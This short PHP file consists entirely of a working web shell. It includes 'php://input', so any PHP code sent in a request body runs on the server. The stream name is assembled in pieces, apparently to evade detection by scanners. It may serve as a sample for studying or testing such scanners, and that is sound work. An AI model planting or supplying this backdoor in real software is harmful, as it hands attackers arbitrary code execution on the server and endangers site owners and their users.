<?php
// The request body included as a script through a stream name spelt in pieces.
$stream = 'php://' . strtolower('INPUT');
include $stream;
